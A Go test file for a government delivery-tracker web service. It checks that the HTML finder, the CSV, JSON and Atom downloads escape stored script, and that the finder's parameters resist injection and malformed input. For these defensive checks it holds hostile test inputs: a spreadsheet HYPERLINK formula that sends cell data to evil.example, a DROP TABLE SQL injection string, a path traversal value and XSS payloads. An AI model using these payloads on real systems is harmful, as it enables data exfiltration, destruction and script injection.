package server_test

import (
	"bytes"
	"encoding/csv"
	"encoding/json"
	"encoding/xml"
	"net/http"
	"net/http/httptest"
	"net/url"
	"strings"
	"testing"

	"github.com/scottish-government/delivery-tracker/internal/dbtest"
	"github.com/scottish-government/delivery-tracker/internal/postgres"
	"github.com/scottish-government/delivery-tracker/internal/server"
	"github.com/scottish-government/delivery-tracker/internal/tracker"
)

// formula is a cell a spreadsheet would run.
const formula = `=HYPERLINK("http://evil.example/?"&A1,"Click")`

// TestOpenDataEscapesEverything puts script in every stored text and follows it into the finder,
// the CSV and JSON downloads and the Atom feeds: each format keeps the text exactly, as data, in a
// form that cannot run as script or as a spreadsheet formula.
func TestOpenDataEscapesEverything(t *testing.T) {
	t.Parallel()
	pool := dbtest.Pool(t)
	withXSS(t, pool)
	if _, err := pool.Exec(t.Context(), `UPDATE commitments SET deliver = $1 WHERE ref = '4.1'`, formula); err != nil {
		t.Fatal(err)
	}
	h := server.New(server.Config{Store: postgres.New(pool, postgres.WithClock(nowFunc(fixedNow))), Now: nowFunc(fixedNow), BaseURL: "https://tracker.example"})
	get := func(path string) *httptest.ResponseRecorder {
		t.Helper()
		rec := httptest.NewRecorder()
		h.ServeHTTP(rec, httptest.NewRequest(http.MethodGet, path, nil))
		if rec.Code != http.StatusOK {
			t.Fatalf("GET %s = %d", path, rec.Code)
		}
		return rec
	}

	// The finder, searching for the script itself: the search box gives it back escaped.
	rec := get("/commitments?q=" + url.QueryEscape(xss))
	checkNoScript(t, "/commitments?q=…", rec.Body.String())
	checkEscaped(t, "/commitments", get("/commitments").Body.String())

	for _, path := range []string{"/commitments.csv", "/updates.csv"} {
		rec := get(path)
		if ct := rec.Header().Get("Content-Type"); !strings.HasPrefix(ct, "text/csv") {
			t.Errorf("%s Content-Type = %q", path, ct)
		}
		rows, err := csv.NewReader(bytes.NewReader(rec.Body.Bytes())).ReadAll()
		if err != nil {
			t.Fatalf("%s is not CSV: %v", path, err)
		}
		var found, formulaKept bool
		for _, row := range rows {
			for _, cell := range row {
				if strings.Contains(cell, "HYPERLINK(") {
					formulaKept = true
				}
				if strings.Contains(cell, `<script>alert("xss")</script>`) {
					found = true
				}
				if cell != "" && strings.ContainsRune("=+-@\t\r", rune(cell[0])) && !isNumber(cell) {
					t.Errorf("%s has a cell a spreadsheet would run: %q", path, cell)
				}
			}
		}
		if !found || (path == "/commitments.csv" && !formulaKept) {
			t.Errorf("%s does not hold the text, so the test proves nothing", path)
		}
	}

	for _, path := range []string{"/commitments.json", "/updates.json"} {
		rec := get(path)
		if ct := rec.Header().Get("Content-Type"); !strings.HasPrefix(ct, "application/json") {
			t.Errorf("%s Content-Type = %q", path, ct)
		}
		if strings.Contains(rec.Body.String(), "<script") {
			t.Errorf("%s has <script unescaped: a browser sniffing it as HTML would run it", path)
		}
		var v any
		if err := json.Unmarshal(rec.Body.Bytes(), &v); err != nil {
			t.Fatalf("%s is not JSON: %v", path, err)
		}
		if b, _ := json.Marshal(v); !strings.Contains(string(b), `\u003cscript\u003ealert(\"xss\")\u003c/script\u003e`) {
			t.Errorf("%s does not hold the text, so the test proves nothing", path)
		}
	}

	for _, path := range []string{"/updates.atom", "/commitments/4.2/updates.atom", "/priorities/digital-skills-and-leadership/updates.atom"} {
		rec := get(path)
		var feed struct {
			Title   string `xml:"title"`
			Entries []struct {
				Title   struct{ Type, Text string } `xml:"title"`
				Content struct {
					Type string `xml:"type,attr"`
					Text string `xml:",chardata"`
				} `xml:"content"`
				Summary struct {
					Type string `xml:"type,attr"`
					Text string `xml:",chardata"`
				} `xml:"summary"`
				Links []struct {
					Href string `xml:"href,attr"`
				} `xml:"link"`
			} `xml:"entry"`
		}
		if err := xml.Unmarshal(rec.Body.Bytes(), &feed); err != nil {
			t.Fatalf("%s is not XML: %v", path, err)
		}
		if len(feed.Entries) == 0 {
			t.Fatalf("%s has no entries", path)
		}
		var found bool
		for _, e := range feed.Entries {
			for _, c := range []struct{ Type, Text string }{{e.Content.Type, e.Content.Text}, {e.Summary.Type, e.Summary.Text}} {
				if strings.Contains(c.Text, `<script>alert("xss")</script>`) {
					found = true
				}
				// Feed readers render type="html" content as HTML: the text must be escaped in it.
				if (c.Type == "html" || c.Type == "xhtml") && (strings.Contains(c.Text, "<script") || strings.Contains(c.Text, "<img src=x")) {
					t.Errorf("%s: an entry's %s content would run script in a feed reader", path, c.Type)
				}
				if c.Type == "html" && strings.Contains(c.Text, `&lt;script&gt;alert(`) {
					found = true
				}
			}
			for _, l := range e.Links {
				if strings.HasPrefix(strings.ToLower(l.Href), "javascript:") {
					t.Errorf("%s links to %q", path, l.Href)
				}
			}
		}
		if !found {
			t.Errorf("%s does not hold the text, so the test proves nothing", path)
		}
	}
}

func isNumber(s string) bool {
	for i, r := range s {
		if !(r >= '0' && r <= '9' || r == '.' || (i == 0 && r == '-')) {
			return false
		}
	}
	return true
}

// TestFinderParametersAreInert sends SQL and nonsense in every parameter of the finder and its
// downloads: each answers as a page or download (ignoring or refusing the value), never a 500,
// and nothing changes.
func TestFinderParametersAreInert(t *testing.T) {
	t.Parallel()
	pool := dbtest.Pool(t)
	h := server.New(server.Config{Store: postgres.New(pool, postgres.WithClock(nowFunc(fixedNow))), Now: nowFunc(fixedNow)})
	params := []string{"q", "priority", "status", "org", "due", "overdue", "update_due", "sort", "page"}
	count := func() (n int) {
		if err := pool.QueryRow(t.Context(), `SELECT (SELECT count(*) FROM commitments) + (SELECT count(*) FROM updates) + (SELECT count(*) FROM organisations)`).Scan(&n); err != nil {
			t.Fatal(err)
		}
		return n
	}
	before := count()
	values := append(slicesClone(sqlPayloads), "-1", "0", "99999999999999999999", "1e9", "yes", "no", "none", "2024-25", "Q5")
	for _, path := range []string{"/commitments", "/commitments.csv", "/commitments.json", "/plans/2023-24/commitments"} {
		for _, p := range params {
			for _, v := range values {
				u := path + "?" + url.Values{p: {v}}.Encode()
				rec := httptest.NewRecorder()
				h.ServeHTTP(rec, httptest.NewRequest(http.MethodGet, u, nil))
				switch rec.Code {
				case http.StatusOK, http.StatusBadRequest, http.StatusNotFound, http.StatusUnprocessableEntity:
				default:
					t.Errorf("GET %s = %d", u, rec.Code)
				}
			}
		}
	}
	if after := count(); after != before {
		t.Errorf("rows changed from %d to %d", before, after)
	}
}

func slicesClone(s []string) []string { return append([]string(nil), s...) }

// FuzzFinder sends the finder and its downloads any query string: the answer is a page or a
// download, or a refusal that says what was wrong, never a server error.
func FuzzFinder(f *testing.F) {
	for _, q := range []string{"q=digital", "status=on_track&overdue=yes", "priority=4&org=NES&sort=due", "page=2",
		"due=2024-25", "q=%27%3B+DROP+TABLE+commitments%3B--", "page=-1", "page=99999999999999999999",
		"status=none&update_due=1", "q=%00", "q=%ff", "sort=ref%27", "org=..%2f..", "q=" + strings.Repeat("a", 5000)} {
		f.Add(q)
	}
	h := server.New(server.Config{Store: postgres.New(dbtest.Pool(f), postgres.WithClock(nowFunc(fixedNow))), Now: nowFunc(fixedNow)})
	f.Fuzz(func(t *testing.T, raw string) {
		for _, path := range []string{"/commitments", "/commitments.json"} {
			req := httptest.NewRequest(http.MethodGet, path, nil)
			req.URL.RawQuery = raw
			rec := httptest.NewRecorder()
			h.ServeHTTP(rec, req)
			switch rec.Code {
			case http.StatusOK, http.StatusBadRequest, http.StatusNotFound, http.StatusUnprocessableEntity:
			default:
				t.Errorf("GET %s?%q = %d", path, raw, rec.Code)
			}
		}
	})
}

// TestUpdatesStatusKeepsThePlansWords checks the updates downloads: status is always one of the
// portal's statuses, and status_label is the plan's own words exactly, and nothing for progress
// published through the portal.
func TestUpdatesStatusKeepsThePlansWords(t *testing.T) {
	t.Parallel()
	app := newApp(t)
	staff := signIn(t, app, tracker.RoleStaff, "")
	mustRedirect(t, "publish on 4.4", staff.post("/report/4.4", with(staff.openForm("4.4"),
		"action", "publish", "status", "at_risk", "narrative", "Waiting for a supplier.")), "/commitments/4.4")

	type row struct{ status, label string }
	key := func(ref, period string) string { return ref + " " + period }
	want := map[string]row{
		key("4.1", "2024-25"): {"on_track", "On Track"},
		key("4.2", "2025-26"): {"delivered", "Completed"},
		key("5.1", "2025-26"): {"delivered", "Completed; Ongoing"},
		key("4.4", ""):        {"at_risk", ""},
	}
	rec := fetch(t, app, "/updates.csv")
	if rec.Code != http.StatusOK {
		t.Fatalf("GET /updates.csv = %d", rec.Code)
	}
	_, rows := readCSV(t, rec.Body.Bytes())
	seen := 0
	for _, r := range rows {
		if _, ok := tracker.ParseStatus(r["status"]); !ok {
			t.Errorf("CSV update %s has status %q, not one of the portal's", r["id"], r["status"])
		}
		if w, ok := want[key(r["commitment_ref"], r["source_period"])]; ok {
			seen++
			if r["status"] != w.status || r["status_label"] != w.label {
				t.Errorf("CSV %s: status %q, status_label %q; want %q, %q", key(r["commitment_ref"], r["source_period"]),
					r["status"], r["status_label"], w.status, w.label)
			}
		}
	}
	if seen != len(want) {
		t.Errorf("found %d of the %d updates looked for in the CSV", seen, len(want))
	}

	rec = fetch(t, app, "/updates.json")
	var doc struct {
		Updates []struct {
			Ref          string  `json:"commitment_ref"`
			Status       string  `json:"status"`
			StatusLabel  *string `json:"status_label"`
			SourcePeriod *string `json:"source_period"`
		}
	}
	if err := json.Unmarshal(rec.Body.Bytes(), &doc); err != nil {
		t.Fatal(err)
	}
	for _, u := range doc.Updates {
		period := ""
		if u.SourcePeriod != nil {
			period = *u.SourcePeriod
		}
		w, ok := want[key(u.Ref, period)]
		if !ok {
			continue
		}
		switch {
		case w.label == "" && u.StatusLabel != nil:
			t.Errorf("JSON %s: status_label %q, want null", key(u.Ref, period), *u.StatusLabel)
		case w.label != "" && (u.StatusLabel == nil || *u.StatusLabel != w.label):
			t.Errorf("JSON %s: status_label %v, want %q", key(u.Ref, period), u.StatusLabel, w.label)
		case u.Status != w.status:
			t.Errorf("JSON %s: status %q, want %q", key(u.Ref, period), u.Status, w.status)
		}
	}

	// The open data page says what the two fields hold.
	_, page := get(t, app, "/data")
	described := text(page.Find(`#updates ~ div table tr:contains("status_label")`))
	if !strings.Contains(described, "exactly as that plan wrote it") {
		t.Errorf("the open data page describes status_label as %q", described)
	}
}
